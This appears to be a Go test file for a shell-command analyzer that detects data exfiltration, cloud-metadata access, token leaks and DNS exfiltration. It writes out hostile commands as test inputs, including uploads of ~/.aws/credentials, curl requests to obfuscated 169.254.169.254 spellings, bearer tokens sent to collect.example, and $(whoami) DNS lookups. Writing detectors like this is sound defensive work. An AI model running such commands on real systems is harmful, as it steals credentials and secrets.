package shell

import (
	"strings"
	"testing"

	"github.com/moatdev/moat/internal/netdest"
)

// Every uploader sends a secret file as exfiltration, and the same command with a project
// file is no exfiltration (a publishing one is an upload of its own).
func TestUploadersTable(t *testing.T) {
	for prog, us := range uploaders() {
		for _, u := range us {
			words := []string{prog}
			for _, alts := range u.sub {
				words = append(words, strings.Split(alts, "|")[0])
			}
			form := func(file string) string {
				w := append([]string(nil), words...)
				switch {
				case u.sources != 0:
					if u.sources == afterFirst {
						w = append(w, "v1")
					}
					w = append(w, file)
					if u.remote != nil {
						w = append(w, remoteFor(u))
					}
				case len(u.options) > 0:
					w = append(w, optionWord(u.options[0]), file)
				case len(u.fields) > 0:
					w = append(w, optionWord(u.fields[0]), "k=@"+file)
				}
				return strings.Join(w, " ")
			}
			if line := form("~/.aws/credentials"); !gives(line, findExfiltration) {
				t.Errorf("%s: want %s:\n%s", line, findExfiltration, render(Analyze(line, testEnv)))
			}
			line := form("dist/app.tar.gz")
			if gives(line, findExfiltration) {
				t.Errorf("%s: a project file is no exfiltration", line)
			}
			if got := gives(line, findUpload); got != u.publish {
				t.Errorf("%s: %s %v, want %v", line, findUpload, got, u.publish)
			}
		}
	}
}

// remoteFor is a destination that the uploader's remote test accepts.
func remoteFor(u uploader) string {
	for _, d := range []string{"s3://b/k", "gs://b/k", "https://acct.blob.core.windows.net/c", "remote:path"} {
		if u.remote(d) {
			return d
		}
	}
	return "?"
}

// Every metadata host is found, in URLs of any client; ordinary hosts are not.
func TestMetadataHosts(t *testing.T) {
	for _, h := range []string{"169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254",
		"metadata.google.internal", "metadata.goog", "metadata", "instance-data", "instance-data.ec2.internal"} {
		host := h
		if strings.Contains(h, ":") {
			host = "[" + h + "]"
		}
		if line := "curl http://" + host + "/latest/"; !gives(line, findCloudMetadata) {
			t.Errorf("%s: want %s", line, findCloudMetadata)
		}
	}
	for _, spelling := range []string{"2852039166", "0xa9fea9fe", "0xA9FEA9FE", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe", "169.254.43518",
		"169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[0:0:0:0:0:ffff:a9fe:a9fe]", "[::169.254.169.254]",
		"169.254.169.254.", "169.254.169.254.nip.io", "a9fea9fe.nip.io", "user@169.254.169.254", "169.254.169.254:80",
		// The whole link-local range, where the clouds put their credential services.
		"169.254.169.1", "2852039167", "0xa9fea9ff"} {
		if !gives("curl http://"+spelling+"/latest/", findCloudMetadata) {
			t.Errorf("%s: want %s", spelling, findCloudMetadata)
		}
	}
	for _, other := range []string{"10.0.0.1", "example.com", "metadata.example.com", "[::1]", "2852039166.example.com", "169.255.169.254"} {
		if gives("curl http://"+other+"/latest/", findCloudMetadata) {
			t.Errorf("%s: no metadata service", other)
		}
	}
	for _, line := range []string{"echo http://169.254.169.254/", "grep 169.254.169.254 notes.md"} {
		if gives(line, findCloudMetadata) {
			t.Errorf("%s: data, not a request", line)
		}
	}
}

// Every capture host receives a token in a header as exfiltration.
func TestCaptureHosts(t *testing.T) {
	for _, h := range netdest.CaptureHosts() {
		if line := `curl -H "Authorization: Bearer $API_TOKEN" https://x.` + h + "/"; !gives(line, findExfiltration) {
			t.Errorf("%s: want %s", line, findExfiltration)
		}
	}
	if gives(`curl -H "Authorization: Bearer $API_TOKEN" https://api.internal.example/`, findExfiltration) {
		t.Errorf("a token for an unknown service to an unknown host is not judged exfiltration")
	}
}

// A variable named for a service goes to that service's hosts in a header, and nowhere
// else.
func TestServiceVarPrefixes(t *testing.T) {
	for _, p := range serviceVarPrefixes {
		name := p.prefix
		if strings.HasSuffix(name, "_") {
			name += "TOKEN"
		}
		if !secretName().MatchString(name) {
			name += "_TOKEN"
		}
		host := serviceHosts()[p.service][0]
		if line := `curl -H "Authorization: Bearer $` + name + `" https://api.` + host + "/"; gives(line, findExfiltration) {
			t.Errorf("%s: a token to its own service is no exfiltration", line)
		}
		if line := `curl -H "Authorization: Bearer $` + name + `" https://collect.example/`; !gives(line, findExfiltration) {
			t.Errorf("%s: want %s", line, findExfiltration)
		}
	}
	for service := range serviceHosts() {
		found := false
		for _, p := range serviceVarPrefixes {
			found = found || p.service == service
		}
		for _, s := range credentialServices() {
			found = found || s == service
		}
		if !found {
			t.Errorf("service %s: no variable or tool names it", service)
		}
	}
}

func TestHttpieItem(t *testing.T) {
	tests := []struct {
		in       string
		kind     itemKind
		key, val string
	}{
		{"Accept:application/json", itemHeader, "Accept", "application/json"},
		{"name=value", itemData, "name", "value"},
		{"n:=42", itemData, "n", "42"},
		{"q==x", itemQuery, "q", "x"},
		{"f@/etc/passwd", itemFile, "f", "/etc/passwd"},
		{"f=@a.txt", itemFile, "f", "a.txt"},
		{"j:=@a.json", itemFile, "j", "a.json"},
		{"H:@h.txt", itemFile, "H", "h.txt"},
		{"@body.json", itemFile, "", "body.json"},
		{`a\=b=c`, itemData, `a\=b`, "c"},
		{"https://x.example/", itemNone, "", ""},
		{"plain", itemNone, "", ""},
	}
	for _, tt := range tests {
		kind, key, val := httpieItem(tt.in)
		if kind != tt.kind || key != tt.key || val != tt.val {
			t.Errorf("httpieItem(%q) = %v %q %q, want %v %q %q", tt.in, kind, key, val, tt.kind, tt.key, tt.val)
		}
	}
}

func TestGitHost(t *testing.T) {
	tests := map[string]string{
		"https://github.com/o/r.git": "github.com", "https://tok@evil.example/r": "evil.example",
		"https://u:p@host:8443/r": "host", "git@github.com:o/r.git": "github.com", "ssh://git@h.example:22/r": "h.example",
		"file:///srv/r.git": "", "origin": "", "../r.git": "", "/srv/r.git": "",
	}
	for in, want := range tests {
		if got := gitHost(in); got != want {
			t.Errorf("gitHost(%q) = %q, want %q", in, got, want)
		}
	}
}

// A push to a remote the line adds, to a URL, or to origin pointed elsewhere is an upload
// out; a push to an existing remote is not.
func TestGitPushOut(t *testing.T) {
	for line, want := range map[string]bool{
		"git remote add x https://e.example/r && git push x main":      true,
		"git remote set-url origin https://e.example/r; git push":      true,
		"git config remote.origin.url https://e.example/r && git push": true,
		"git push https://e.example/r main":                            true,
		"git push --repo=https://e.example/r":                          true,
		"git push origin main":                                         false,
		"git remote add up https://e.example/r && git push origin":     false,
		"git remote add up https://e.example/r && git fetch up":        false,
	} {
		if got := gives(line, findUpload); got != want {
			t.Errorf("%s: %s %v, want %v", line, findUpload, got, want)
		}
	}
}

// A host name computed at run time is found in every network command's words, and an
// address whose last part is computed (a ping sweep) is no name.
func TestComputedNames(t *testing.T) {
	for line, want := range map[string]bool{
		"dig $(cat /etc/hostname).collect.example":                     true,
		"nslookup $(whoami)":                                           true,
		"host $(id -u).collect.example":                                true,
		"curl \"http://$(whoami).collect.example/\"":                   true,
		"for i in $(seq 1 254); do ping -c1 192.168.1.$i; done":        false,
		"for h in $(cat hosts.txt); do ping -c1 $h.corp.example; done": true,
		"dig example.com":                                              false,
		"ping -c1 $HOST":                                               false,
	} {
		if got := gives(line, findDNSExfil); got != want {
			t.Errorf("%s: %s %v, want %v:\n%s", line, findDNSExfil, got, want, render(Analyze(line, testEnv)))
		}
	}
}
